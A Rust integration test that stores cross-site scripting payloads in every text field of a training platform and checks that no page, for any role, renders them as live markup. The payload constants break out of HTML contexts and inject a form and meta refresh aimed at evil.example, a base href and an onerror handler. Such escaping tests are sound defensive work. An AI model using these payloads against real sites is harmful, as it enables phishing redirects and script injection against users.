//! Stored text that tries to break out of its element: every free-text field
//! a person or an import can fill holds a payload that closes textarea,
//! title, script and comment contexts and then opens a form, a meta refresh,
//! a base and an event handler. Every page that shows such text is rendered
//! for each role and parsed; no element of the payload may exist in the DOM.

use crate::common::*;
use app::auth::model::Role;
use app::auth::policy::Membership;
use app::entities::{
    class, cur_block, cur_lesson, mentoring_goal, mentoring_pair, mentoring_session, programme,
};
use axum::http::StatusCode;
use sea_orm::{ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter};
use serde_json::Value;

/// For names and titles (short fields).
const SHORT: &str = r#"Nama"'></textarea></title><x-pwn id=pwn-short></x-pwn><!--"#;
/// For fields with a tight limit (a scenario role or option).
const TINY: &str = "</textarea><x-pwn id=pwn-t></x-pwn>";
/// For descriptions, bodies, comments, Markdown.
const LONG: &str = r#"Isi"'></textarea></title></style></script></noscript><x-pwn id=pwn-long></x-pwn><form id=pwn-form action=//evil.example><button id=pwn-button>ok</button></form><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example><img id=pwn-img src=x onerror=alert(1)><!--"#;

/// What must never be in a parsed page.
fn escaped_everywhere(path: &str, who: &str, body: &str) {
    let doc = scraper::Html::parse_document(body);
    let forbidden = scraper::Selector::parse(
        "x-pwn, [id^=pwn], meta[http-equiv], base, form[action*='evil'], [formaction*='evil']",
    )
    .unwrap();
    let found: Vec<String> = doc.select(&forbidden).map(|e| e.html()).collect();
    assert!(found.is_empty(), "{path} as {who}: escaped element(s) {found:?}");
    let all = scraper::Selector::parse("*").unwrap();
    for e in doc.select(&all) {
        let handler = e.value().attrs().find(|(name, _)| name.starts_with("on"));
        assert!(
            handler.is_none(),
            "{path} as {who}: event handler in {}",
            e.html()
        );
    }
    // Text placed in a textarea is still whole there (the closing tags and
    // the element after them are text, not eaten by the parser); a source
    // (TOML) shows it escaped for its own format, so only the markup is compared.
    let areas = scraper::Selector::parse("textarea").unwrap();
    for area in doc.select(&areas) {
        let text: String = area.text().collect();
        if text.contains("x-pwn") {
            assert!(
                text.contains("><x-pwn id=pwn-"),
                "{path} as {who}: textarea text changed: {text}"
            );
        }
    }
}

/// Every `{"id": …, "en": …}` pair in a block's JSON becomes the payload.
fn poison_bilingual(v: &mut Value, payload: &str) {
    match v {
        Value::Object(map) if map.len() == 2 && map.contains_key("id") && map.contains_key("en") => {
            for text in map.values_mut() {
                *text = Value::String(payload.to_string());
            }
        }
        Value::Object(map) => map.values_mut().for_each(|v| poison_bilingual(v, payload)),
        Value::Array(items) => items.iter_mut().for_each(|v| poison_bilingual(v, payload)),
        _ => {}
    }
}

struct World {
    class: i64,
    assignment: i64,
    task: i64,
    rubric: i64,
    writer: i64,
    lesson: String,
    /// A lesson with a reflection block, where the participant wrote one.
    reflected: String,
    clients: Vec<(&'static str, Client)>,
}

async fn world(app: &TestApp) -> World {
    let class = app.class(&format!("Kelas {SHORT}")).await;
    let mut row: class::ActiveModel = class::Entity::find_by_id(class)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .into();
    row.description = Set(LONG.into());
    let programme_id = row.programme_id.clone().unwrap();
    row.update(&app.db).await.unwrap();
    let mut p: programme::ActiveModel = programme::Entity::find_by_id(programme_id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .into();
    p.name = Set(format!("Program {SHORT}"));
    p.description = Set(LONG.into());
    p.update(&app.db).await.unwrap();

    let people = [
        ("admin", Role::Admin, None),
        ("facilitator", Role::Facilitator, Some(Membership::Facilitator)),
        ("evaluator", Role::Evaluator, Some(Membership::Evaluator)),
        ("participant", Role::Participant, Some(Membership::Participant)),
    ];
    let mut clients = Vec::new();
    let mut ids = Vec::new();
    for (who, role, member) in people {
        let id = app.user(&format!("{who} {SHORT}"), &[role]).await;
        app.edit_user(id, |u| {
            u.unit_kerja = Set(format!("Unit {SHORT}"));
            u.jabatan = Set(format!("Jabatan {SHORT}"));
        })
        .await;
        if let Some(m) = member {
            app.enrol(id, class, m).await;
        }
        ids.push(id);
        clients.push((who, app.session(id).await));
    }
    let (evaluator, writer) = (ids[2], ids[3]);
    let mentor = app.user(&format!("Mentor {SHORT}"), &[Role::Participant]).await;
    app.enrol(mentor, class, Membership::Participant).await;
    mentoring(app, class, mentor, writer).await;

    let new = app::tasks::new_task::parse_task(
        app::calendar::Zone::Wib,
        &format!("Tugas {SHORT}"),
        LONG,
        "2026-12-01",
        "",
        "accepted",
        "",
    )
    .expect("task");
    let task = app::tasks::store::create(&app.db, class, new)
        .await
        .expect("task");
    hand_in(app, class, task, &[writer, mentor]).await;

    app.load_shipped().await;
    let lesson = poison_lesson(app).await;
    let reflected = lesson_reflection(app, class, writer).await;
    poison_scenario(app).await;
    let window =
        app::scenarios::assign::Window::parse(app::calendar::Zone::Wib, "2026-01-01", "", 0).expect("window");
    let assignment = app::scenarios::assign::assign(&app.db, class, "aplikasi-laporan", window)
        .await
        .expect("assign");
    play_with_reflection(app, &clients[3].1, class, assignment, LONG).await;

    let mut rubric_body = app::rubrics::templates::find("refleksi-empati")
        .unwrap()
        .rubric(app::i18n::Locale::Id)
        .clone();
    rubric_body.title = format!("Rubrik {SHORT}");
    rubric_body.description = LONG.into();
    for c in &mut rubric_body.criteria {
        c.title = format!("Kriteria {SHORT}");
        c.description = LONG.into();
        for l in &mut c.levels {
            l.descriptor = LONG.into();
        }
    }
    let rubric = app::rubrics::store::create(&app.db, class, ids[1], &rubric_body, None)
        .await
        .expect("rubric")
        .expect("sound");
    reflections_scored_by(app, class, assignment, rubric, evaluator).await;
    score_with_comments(app, &clients[2].1, class, assignment, writer).await;

    let mut lms = app::lti::store::NewPlatform {
        name: format!("LMS {SHORT}"),
        issuer: "https://lms.example".into(),
        client_id: "c".into(),
        auth_login_url: "https://lms.example/auth".into(),
        token_url: "https://lms.example/token".into(),
        jwks_url: "https://lms.example/jwks".into(),
        deployments: vec![format!("dep {SHORT}")],
    };
    lms.client_id.push('1');
    app::lti::store::register(&app.db, lms).await.unwrap();

    World {
        class,
        assignment,
        task,
        rubric,
        writer,
        lesson,
        reflected,
        clients,
    }
}

async fn mentoring(app: &TestApp, class: i64, mentor: i64, mentee: i64) {
    let pair = mentoring_pair::ActiveModel {
        class_id: Set(class),
        mentor_id: Set(mentor),
        mentee_id: Set(mentee),
        status: Set("confirmed".into()),
        topics: Set(serde_json::to_string(&[SHORT]).unwrap()),
        created_at: Set(chrono::Utc::now()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    mentoring_goal::ActiveModel {
        pair_id: Set(pair.id),
        title: Set(format!("Target {SHORT}")),
        met: Set(false),
        client_key: Set("goal-hostile".into()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    mentoring_session::ActiveModel {
        pair_id: Set(pair.id),
        held_on: Set(chrono::NaiveDate::from_ymd_opt(2026, 11, 2).unwrap()),
        minutes: Set(45),
        topic: Set(format!("Topik {SHORT}")),
        practised: Set(LONG.into()),
        mentor_learned: Set(LONG.into()),
        logged_by: Set(mentor),
        client_key: Set("session-hostile".into()),
        created_at: Set(chrono::Utc::now()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
}

/// The first lesson's title and every bilingual text of its blocks.
async fn poison_lesson(app: &TestApp) -> String {
    let key = app::curriculum::store::shipped().unwrap().units[0].lessons[0]
        .key
        .clone();
    let lesson = cur_lesson::Entity::find()
        .filter(cur_lesson::Column::Key.eq(&key))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let lesson_id = lesson.id;
    let mut l: cur_lesson::ActiveModel = lesson.into();
    l.title_id = Set(format!("Pelajaran {SHORT}"));
    l.update(&app.db).await.unwrap();
    for block in cur_block::Entity::find()
        .filter(cur_block::Column::LessonId.eq(lesson_id))
        .all(&app.db)
        .await
        .unwrap()
    {
        let mut body: Value = serde_json::from_str(&block.body).unwrap();
        poison_bilingual(&mut body, &format!("{LONG} **tebal**"));
        let mut b: cur_block::ActiveModel = block.into();
        b.body = Set(body.to_string());
        b.update(&app.db).await.unwrap();
    }
    key
}

/// The two people form a published team that hands in a hostile text.
async fn hand_in(app: &TestApp, class: i64, task: i64, people: &[i64]) {
    use app::entities::{task_submission, team, team_member, team_set};
    let now = chrono::Utc::now();
    let set = team_set::ActiveModel {
        class_id: Set(class),
        seed: Set(1),
        settings: Set("{}".into()),
        created_at: Set(now),
        published_at: Set(Some(now)),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    let t = team::ActiveModel {
        set_id: Set(set.id),
        number: Set(1),
        locked: Set(false),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    for person in people {
        team_member::ActiveModel {
            set_id: Set(set.id),
            team_id: Set(t.id),
            user_id: Set(*person),
            ..Default::default()
        }
        .insert(&app.db)
        .await
        .unwrap();
    }
    task_submission::ActiveModel {
        task_id: Set(task),
        team_id: Set(t.id),
        number: Set(1),
        user_id: Set(people[0]),
        body: Set(LONG.into()),
        links: Set("[]".into()),
        submitted_at: Set(now),
        client_key: Set("hand-in-hostile".into()),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
}

/// A reflection written in a lesson (the first with a reflection block).
async fn lesson_reflection(app: &TestApp, class: i64, writer: i64) -> String {
    let block = cur_block::Entity::find()
        .filter(cur_block::Column::Kind.eq("reflection"))
        .one(&app.db)
        .await
        .unwrap()
        .expect("a reflection block");
    app::entities::reflection::ActiveModel {
        user_id: Set(writer),
        class_id: Set(class),
        block_id: Set(block.id),
        body: Set(LONG.into()),
        revision: Set(1),
        save_key: Set(String::new()),
        updated_at: Set(chrono::Utc::now()),
    }
    .insert(&app.db)
    .await
    .unwrap();
    cur_lesson::Entity::find_by_id(block.lesson_id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .key
}

/// Every text of a shipped scenario, published as its next version (the
/// class's assignment plays it; the editor shows it as source).
async fn poison_scenario(app: &TestApp) {
    let (_, scenario) = app::scenarios::store::by_key(&app.db, "aplikasi-laporan")
        .await
        .unwrap();
    let mut doc = serde_json::to_value(&scenario).unwrap();
    poison_bilingual(&mut doc, TINY);
    let scenario: app::scenarios::model::Scenario = serde_json::from_value(doc).unwrap();
    let row = app::scenarios::store::save_draft(&app.db, &scenario)
        .await
        .unwrap();
    let published = app::scenarios::store::publish(&app.db, &row).await.unwrap();
    assert!(published.is_ok(), "hostile scenario publishes: {published:?}");
}

/// A roster CSV whose names, units and positions are hostile (one row with
/// a bad NIP too, so the preview also lists an issue with its value).
async fn staged_roster(app: &TestApp, facilitator: &Client, class: i64) -> String {
    let quoted = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let nip = app::seed::demo_nip("19850315", 1, 7);
    let csv = format!(
        "NIP;Nama;Jenis Kelamin;Unit Kerja;Jabatan\n{nip};{};L;{};{}\n{};{};P;Unit;Analis\n",
        quoted(SHORT),
        quoted(SHORT),
        quoted(SHORT),
        quoted(SHORT),
        quoted(SHORT),
    );
    let r = app.upload(facilitator, class, csv.as_bytes()).await;
    assert!(r.status.is_success(), "hostile roster staged: {r:?}");
    serde_json::from_str(&r.body).expect("upload id")
}

/// The evaluator's draft: every comment and the overall remark hostile.
async fn score_with_comments(app: &TestApp, c: &Client, class: i64, assignment: i64, writer: i64) {
    let base = vec![
        ("class_id".to_string(), class.to_string()),
        ("task".into(), assignment.to_string()),
        ("subject".into(), writer.to_string()),
        ("kind".into(), "reflection".into()),
    ];
    let form: Vec<(String, String)> = scored_with("refleksi-empati", base, 1, 0, false)
        .into_iter()
        .map(|(k, v)| {
            if k == "overall" || k.ends_with("[comment]") {
                (k, LONG.to_string())
            } else {
                (k, v)
            }
        })
        .collect();
    let fields: Vec<(&str, String)> = form.iter().map(|(k, v)| (k.as_str(), v.clone())).collect();
    let r = app.call(c, "/api/save_score", &fields).await;
    assert!(r.status.is_success(), "hostile draft saved: {r:?}");
}

both_backends!(no_stored_text_escapes_its_element, async |app: &TestApp| {
    let w = world(app).await;
    let c = w.class;
    let play = format!("/classes/{c}/scenarios/{}", w.assignment);
    let task = format!("/classes/{c}/tasks/{}", w.task);
    let pages = [
        format!("/classes/{c}"),
        format!("/classes/{c}/import"),
        format!("/classes/{c}/learn"),
        format!("/classes/{c}/learn/{}", w.lesson),
        format!("/classes/{c}/progress"),
        format!("/classes/{c}/reflections/{}", w.lesson),
        format!("/classes/{c}/reflections/{}", w.reflected),
        format!("/classes/{c}/learn/{}", w.reflected),
        format!("/curriculum/lessons/{}", w.lesson),
        "/curriculum".into(),
        format!("/classes/{c}/scenarios"),
        play.clone(),
        format!("{play}/analytics"),
        format!("{play}/evaluation"),
        format!("{play}/score/{}", w.writer),
        format!("/classes/{c}/teams"),
        format!("/classes/{c}/tasks"),
        task.clone(),
        format!("{task}/evaluation"),
        format!("/classes/{c}/mentoring"),
        format!("/classes/{c}/rubrics"),
        format!("/classes/{c}/rubrics/{}", w.rubric),
        "/classes".into(),
        "/admin/users".into(),
        "/admin/programmes".into(),
        "/admin/lti".into(),
        "/scenarios".into(),
        "/scenarios/aplikasi-laporan".into(),
        "/".into(),
    ];
    // A roster file's rows, shown before anything is stored.
    let upload = staged_roster(app, &w.clients[1].1, c).await;
    let mut pages = pages.to_vec();
    pages.push(format!("/classes/{c}/import?upload={upload}"));
    let mut shown = 0;
    for path in &pages {
        let mut seen_by_someone = false;
        for (who, client) in &w.clients {
            let r = app.get(client, path).await;
            assert!(r.status.as_u16() < 500, "GET {path} as {who}: {}", r.status);
            if r.status != StatusCode::OK {
                continue;
            }
            escaped_everywhere(path, who, &r.body);
            seen_by_someone |= r.body.contains("x-pwn");
        }
        assert!(
            seen_by_someone,
            "{path}: nobody saw any stored text: the page is not tested"
        );
        shown += 1;
    }
    assert_eq!(shown, pages.len());
});
